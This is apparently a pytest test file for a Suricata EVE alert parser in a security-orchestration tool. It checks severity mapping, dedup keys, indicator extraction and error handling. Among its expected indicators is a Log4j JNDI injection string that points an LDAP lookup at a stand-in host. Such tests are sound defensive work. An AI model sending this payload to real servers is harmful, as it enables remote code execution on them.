"""The Suricata EVE parser."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from soar.alerts.models import Alert, Rule, Severity, SeverityInfo
from soar.ingest.parsers import NDJSON_SOURCES
from soar.ingest.parsers.base import SKIPPED, ParseError

Parse = Callable[..., Any]


def test_sample_lines(sample: Callable[[str], Any], parse: Parse, triples: Parse) -> None:
    assert "suricata" in NDJSON_SOURCES
    lines = sample("suricata.ndjson")
    (log4j,), (flow,), (c2,) = (parse("suricata", line) for line in lines)
    assert flow is SKIPPED
    assert isinstance(log4j, Alert)
    assert isinstance(c2, Alert)
    assert log4j.title == "ET EXPLOIT Possible Log4j RCE attempt"
    assert log4j.rule == Rule(name="ET EXPLOIT Possible Log4j RCE attempt", id="1:2024897:3")
    assert log4j.severity == SeverityInfo(level=Severity.HIGH, original="1")
    assert log4j.description == "Attempted Administrator Privilege Gain"
    assert log4j.time == datetime(2026, 11, 22, 10, 0, 1, 123, tzinfo=UTC)
    assert log4j.dedup_key == "suricata:1234567890123456:2024897:2026-11-22T10:00:01.000123+0000"
    assert triples(log4j) == [
        ("ip", "203.0.113.66", "source"),
        ("ip", "10.20.1.30", "destination"),
        ("domain", "intranet.example.com", "destination"),
        ("url", "http://intranet.example.com/?x=${jndi:ldap://203.0.113.66/a}", "related"),
        ("url", "ldap://203.0.113.66/a", "related"),
    ]
    assert c2.title == "ET MALWARE Known C2 TLS SNI"
    assert c2.rule == Rule(name="ET MALWARE Known C2 TLS SNI", id="1:2030001:1")
    assert c2.time == datetime(2026, 11, 22, 10, 0, 3, 500000, tzinfo=UTC)
    assert c2.dedup_key == "suricata:1234567890123458:2030001:2026-11-22T10:00:03.500000+0000"
    assert triples(c2) == [
        ("ip", "10.30.4.77", "source"),
        ("ip", "198.51.100.23", "destination"),
        ("domain", "c2.bad-domain.example", "destination"),
    ]
    assert c2.raw == lines[2]
    again = parse("suricata", lines[0])[0]
    assert again.id == log4j.id


def test_array_batch(sample: Callable[[str], Any], parse: Parse) -> None:
    items = parse("suricata", [*sample("suricata.ndjson"), 5, {"event_type": "alert"}])
    assert [type(item).__name__ for item in items] == [
        "Alert", "Skip", "Alert", "ParseError", "ParseError",
    ]  # fmt: skip
    assert isinstance(items[4], ParseError)
    assert items[4].field == "[4].alert"


def test_absolute_url_ip_host_and_dns(parse_one: Parse, triples: Parse) -> None:
    alert = parse_one(
        "suricata",
        {
            "event_type": "alert",
            "alert": {"signature": "DNS query for bad domain", "signature_id": 7, "severity": 4},
            "http": {"hostname": "2001:db8::9", "url": "/a?u=hxxp://evil[.]example/b"},
            "dns": {"rrname": "evil.example"},
        },
    )
    assert alert.severity == SeverityInfo(level=Severity.INFORMATIONAL, original="4")
    assert alert.rule.id == "1:7:0"
    assert alert.dedup_key.startswith("content:")
    assert triples(alert) == [
        ("ip", "2001:db8::9", "destination"),
        ("url", "http://[2001:db8::9]/a?u=http://evil.example/b", "related"),
        ("url", "http://evil.example/b", "related"),
        ("domain", "evil.example", "related"),
    ]


@pytest.mark.parametrize(
    ("severity", "level"),
    [(1, Severity.HIGH), (2, Severity.MEDIUM), (3, Severity.LOW), (5, Severity.INFORMATIONAL),
     (None, Severity.MEDIUM)],
)  # fmt: skip
def test_severity(parse_one: Parse, severity: object, level: Severity) -> None:
    document = {"event_type": "alert", "alert": {"signature": "s", "severity": severity}}
    alert = parse_one("suricata", document)
    assert alert.severity.level is level


@pytest.mark.parametrize(
    ("document", "field"),
    [
        ({"src_ip": "1.1.1.1"}, "event_type"),
        ({"event_type": "alert"}, "alert"),
        ({"event_type": "alert", "alert": {"signature_id": 1}}, "alert.signature"),
        ("line", None),
    ],
)
def test_unmappable(parse: Parse, document: object, field: str | None) -> None:
    with pytest.raises(ParseError) as error:
        parse("suricata", document)
    assert error.value.field == field


@pytest.mark.parametrize("event_type", ["flow", "dns", "http", "stats", "anomaly"])
def test_other_event_types_are_skipped(parse: Parse, event_type: str) -> None:
    assert parse("suricata", {"event_type": event_type, "alert": {"signature": "x"}}) == [SKIPPED]
